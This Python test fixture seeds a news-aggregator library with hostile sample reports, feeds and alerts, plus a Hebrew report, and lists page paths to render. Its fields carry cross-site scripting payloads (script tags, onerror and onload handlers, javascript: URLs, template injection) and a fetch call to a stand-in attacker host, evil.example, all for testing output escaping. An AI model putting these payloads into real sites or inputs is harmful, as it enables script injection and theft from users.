"""What is stored beside the samples: hostile reports, a story from right to left, feeds, failures, alerts, looks."""

import json
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

from newsloom.kept import Alert, Poll
from newsloom.loom.desk import Desk
from newsloom.settings import Settings
from newsloom.store import open_library
from newsloom.types import Entry, Failure

DAM = "s-82c99982a13e"
ELSEWHERE = "https://evil.example"
RUN = "window.hasRun=1;alert(1);fetch('https://evil.example/x')"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'"><img src=x onerror="{RUN}">'
SVG = f"</title></textarea></noscript><svg onload=\"{RUN}\"><a href='javascript:{RUN}'>x</a></svg>"
HANDLER = f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='"
TURNED = "\u202eevitatneserper\u2066 \u200f\u2069\u202c"
LONG = "w" * 1_000_000
# A plain word in each, by which they are found.
WORDS = [
    f"Quellmouth {SCRIPT}",
    f"Quellmouth {IMAGE}",
    f"Quellmouth {SVG}",
    f"Quellmouth {HANDLER}",
    f"Quellmouth {TURNED} {{{{ 7*7 }}}}",
]
SPEAKER = "Ida Brandreth <b onclick=alert(1)>"

_TEXT = (
    "QUELLMOUTH — The Quellmouth lock gate {0} gave way on Tuesday morning and flooded the lower Quellmouth basin, harbour officials said.\n\n"
    "At least {1} people were hurt when the Quellmouth lock gate gave way, the harbour master said. {0}\n\n"
    "“The gate was inspected in {2}, and we found nothing {0} wrong,” said Ida Brandreth, the harbour master. {3}\n\n"
    "Brandreth said the Quellmouth basin would stay closed for {1} days. <svg/onload=alert(2)> [x](javascript:alert(3))"
)
_HEBREW = (
    "נהר הגליל עלה על גדותיו ביום שלישי והציף את שוק העיר התחתונה, כך מסרה העירייה. "
    "שישה בני אדם פונו לבית החולים במצב קל, וכבישים רבים נסגרו לתנועה עד הערב.\n\n"
    "ראש העיר אמר כי המים ירדו עד סוף השבוע, וכי השוק ייפתח מחדש לאחר בדיקת המבנים."
)


def hostile():
    """Reports whose every field tries something, in two outlets that tell one story and two that stand alone."""
    outlets = [f"Basin Courier {SCRIPT}", f"Lock Post {IMAGE}", f"Weir Echo {SVG}", f"Mole Times {HANDLER}"]
    for number, outlet in enumerate(outlets):
        bad = WORDS[number]
        yield {
            "id": f"bad-{number}",
            "url": f'{ELSEWHERE}/{number}?a="><b>' if number % 2 else f"javascript:{RUN}//{number}",
            "outlet": outlet,
            "title": f"Lock gate gives way in Quellmouth {bad}",
            "published": f"2026-03-1{number}T0{number}:10:00Z" if number == 3 else f"2026-03-10T0{number + 5}:10:00Z",
            "language": "en",
            "author": f"By Anna {bad}",
            "text": _TEXT.format(bad, (9, 12, 9, 14)[number], 2019 + number % 2, TURNED),
        }
    yield {
        "id": "bad-long", "url": f"{ELSEWHERE}/long", "outlet": "Long " + "o" * 5_000, "title": "Wordless " + "t" * 20_000,
        "published": "2026-03-09T01:00:00Z", "language": "en", "text": f"The Quellmouth archive printed one word. {LONG} It was long.",
    }  # fmt: skip


def hebrew():
    """A report from right to left."""
    return {
        "id": "right", "url": "https://galil.example/1", "outlet": "קול הגליל", "title": "נהר הגליל הציף את שוק העיר התחתונה",
        "published": "2026-03-12T07:00:00Z", "language": "he", "text": _HEBREW,
    }  # fmt: skip


def late(number=1):
    """One more report of the dam, which came after the reader looked."""
    return {
        "id": f"late-{number}", "url": f"https://latepost.example/dam/{number}", "outlet": "Late Post", "title": "Aldwater spillway: seventh body found below the dam",
        "published": f"2026-03-13T2{number}:30:00Z", "language": "en",
        "text": "OVERMERE — A seventh body was found below the Aldwater dam on Friday evening, the Vess valley police said.\n\n"
        "The Aldwater spillway gave way on Tuesday and sent water through Overmere; sirens at Hallin gave 25 minutes of warning.\n\n"
        "“We have now found seven people,” police chief Mara Ellingsen said in Overmere.",
    }  # fmt: skip


def take(library, folder, name, reports):
    """Take reports as the command does, link and weave."""
    file = folder / f"{name}.jsonl"
    file.write_text("".join(json.dumps(one) + "\n" for one in reports), encoding="utf-8")
    Desk(library, Settings()).take([str(file)])


def more(place):
    """Store it all in a library of the samples."""
    now = datetime.now(UTC)
    with open_library(place) as library:
        library.put_look(DAM, now)
        take(library, place.parent, "more", [*hostile(), hebrew(), late()])
        library.put_mark("follow", "story", DAM, now)
        _feeds(library, now)
        for number, name in enumerate(("Dams", f"Hostile {IMAGE}{TURNED}")):
            rule = {"words": ["dam" if not number else SCRIPT]}
            library.put_alert(Alert(f"al-{number}", "me", name, rule, ("mail:me@example.org",), now))


def _feeds(library, now):
    good = library.put_feed(
        "https://harbourwire.example/feed",
        now,
        site="https://harbourwire.example/",
        title="Harbour Wire",
        categories=("Wires",),
    )
    bad = library.put_feed(
        f"{ELSEWHERE}/feed?<svg>",
        now,
        site=f"javascript:{RUN}",
        title=f"{SCRIPT}{IMAGE}{SVG}{TURNED}",
        categories=(f"News {IMAGE}",),
    )
    library.put_polls(
        {
            good: Poll(due_at=now + timedelta(hours=1), checked_at=now, answered_at=now, moved_at=now, status=200),
            bad: Poll(due_at=now + timedelta(hours=1), checked_at=now, status=500, failures=3, failing_since=now - timedelta(days=2), reason=f"it answers {SCRIPT}", advice=f"look at {IMAGE}"),
        }
    )  # fmt: skip
    entry = Entry("e1", f"{ELSEWHERE}/e1", f"An entry {SVG}", now, "<p>teaser</p>")
    [id] = library.put_entries(bad, [entry], now).new
    library.put_entry_failed(
        id, Failure(f"{ELSEWHERE}/e1", f"it answers 404 {SCRIPT}", f"look {IMAGE}"), now, now + timedelta(hours=2)
    )


#: The path of every kind of page there is, by what it is.
PAGES = {
    "stories": "/", "latest": "/?order=new", "followed": "/?followed=1", "none": "/?language=xx", "hidden": "/?hidden=1",
    "story": "/stories/{dam}", "claims": "/stories/{dam}/claims", "correct": "/stories/{dam}/correct",
    "article": "/articles/{dam_report}?from={dam}", "report": "/articles/{dam_report}",
    "search": "/search", "found": "/search?q=dam", "found-quotes": "/search?q=gate&in=quotes", "nothing": "/search?q=unheardof",
    "people": "/people", "person": "/people/Ruth%20Adeyar", "outlets": "/outlets", "outlet": "/outlets/harbour-wire",
    "changes": "/changes", "changes-week": "/changes?since=7d", "check": "/check?story={dam}",
    "feeds": "/feeds", "feed": "/feeds/{feed}", "failed": "/feeds/failed", "feed-remove": "/feeds/{feed}/remove",
    "alerts": "/alerts", "alert": "/alerts/al-0", "alert-new": "/alerts/new", "alert-remove": "/alerts/al-0/remove",
    "status": "/status", "settings": "/settings", "api": "/api", "missing": "/nowhere",
    "right": "/stories/{right}", "right-article": "/articles/{right_report}",
}  # fmt: skip
#: Those where the hostile reports stand, or what was asked is hostile.
HOSTILE = {
    "bad-story": "/stories/{bad}", "bad-claims": "/stories/{bad}/claims", "bad-correct": "/stories/{bad}/correct?words={image}",
    "bad-article": "/articles/{bad_report}?from={bad}", "bad-long": "/articles/bad-long", "bad-outlet": "/outlets/{bad_outlet}",
    "bad-filter": "/?outlet={bad_outlet}&category={script}", "bad-latest": "/?order=new", "bad-found": "/search?q=Quellmouth",
    "bad-search": "/search?q={image}%20{svg}%20from%3A{script}", "bad-quotes": "/search?q=Quellmouth&in=quotes",
    "bad-people": "/people", "bad-person": "/people/Ida%20Brandreth", "bad-nobody": "/people/{svg}", "bad-outlets": "/outlets",
    "bad-changes": "/changes?since=7d", "bad-feeds": "/feeds", "bad-feed": "/feeds/{bad_feed}", "bad-failed": "/feeds/failed", "bad-alerts": "/alerts",
    "bad-alert": "/alerts/al-1", "bad-new": "/alerts/new?words={image}", "bad-status": "/status?did={script}", "bad-missing": "/{svg}",
}  # fmt: skip


def paths(library):
    """These pages in a library that has it all."""
    lines = library.stories(limit=50, hidden=True).items
    stories = {"dam": DAM}
    for name, word in (("bad", "Quellmouth"), ("right", "נהר")):
        stories[name] = next(one.id for one in lines if word in (one.title or ""))
    reports = {f"{name}_report": library.story(id).articles[0] for name, id in stories.items()}
    feeds = {"feed" if one.title == "Harbour Wire" else "bad_feed": one.id for one in library.feeds()}
    outlet = next(one.outlet.id for one in library.outlets() if "Basin Courier" in one.outlet.name)
    words = {"script": SCRIPT, "image": IMAGE, "svg": SVG, "bad_outlet": outlet}
    asked = {name: quote(value, safe="") for name, value in (stories | reports | feeds | words).items()}
    return {name: path.format(**asked) for name, path in (PAGES | HOSTILE).items()}
